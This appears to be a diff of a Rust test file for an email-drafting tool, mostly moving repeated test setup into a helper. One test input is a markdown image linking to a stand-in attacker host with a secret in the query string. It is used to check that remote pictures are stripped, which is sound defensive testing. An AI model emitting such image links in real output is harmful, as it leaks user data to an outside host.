@@ -45,9 +45,7 @@ async fn new_message_becomes_a_draft() {
 
 #[tokio::test]
 async fn simple_reply_gives_a_short_answer() {
-    let mira = Mira::new(&[]).await;
-    mira.put(jonas());
-    let handle = mira.message("m1").await;
+    let (mira, handle) = Mira::asked_by_jonas().await;
     let blocks = mira.ok(json!({"mode": "reply", "id": handle, "body": "Yes, please."})).await;
     assert_eq!(
         blocks,
@@ -87,9 +85,7 @@ async fn simple_reply_gives_a_short_answer() {
 
 #[tokio::test]
 async fn reply_all_leaves_out_the_user() {
-    let mira = Mira::new(&[]).await;
-    mira.put(jonas());
-    let handle = mira.message("m1").await;
+    let (mira, handle) = Mira::asked_by_jonas().await;
     let blocks =
         mira.ok(json!({"mode": "reply_all", "id": handle, "body": "ok", "quote": "none"})).await;
     assert_eq!(
@@ -105,9 +101,7 @@ async fn reply_all_leaves_out_the_user() {
 
 #[tokio::test]
 async fn forward_keeps_its_attachments() {
-    let mira = Mira::new(&[]).await;
-    mira.put(jonas());
-    let handle = mira.message("m1").await;
+    let (mira, handle) = Mira::asked_by_jonas().await;
     let blocks = mira
         .ok(json!({"mode": "forward", "id": handle, "to": "priya@example.com", "body": "FYI"}))
         .await;
@@ -138,9 +132,7 @@ async fn forward_keeps_its_attachments() {
 
 #[tokio::test]
 async fn only_given_arguments_change_a_draft() {
-    let mira = Mira::new(&[]).await;
-    mira.put(jonas());
-    let handle = mira.message("m1").await;
+    let (mira, handle) = Mira::asked_by_jonas().await;
     mira.ok(json!({"mode": "reply", "id": handle, "body": "Yes", "attach": ["data:text/plain;name=a.txt,hi"]})).await;
     let before = mira.held("draft1");
     let blocks = mira
@@ -397,15 +389,11 @@ async fn written_html_loads_no_remote_content() {
     let markdown = "a ![Logo](https://evil.example/?q=SECRET) b";
     let note =
         |count: usize| format!("remote pictures left out: {count} (setting `remote_pictures`)");
-    let cases = [
-        (
-            "html",
-            html,
-            note(2),
-            "<p>aLogo &lt;b&gt;bx<img><span>c</span><img src=\"data:image/png;base64,AA==\"></p>",
-        ),
-        ("md", markdown, note(1), "<p>a Logo b</p>"),
-    ];
+    let cases = cases! {
+        "html", html, note(2),
+            "<p>aLogo &lt;b&gt;bx<img><span>c</span><img src=\"data:image/png;base64,AA==\"></p>";
+        "md", markdown, note(1), "<p>a Logo b</p>";
+    };
     for (format, body, note, written) in cases {
         let mira = Mira::new(&[]).await;
         let new = json!({"to": "bo@example.com", "body": body, "body_format": format});
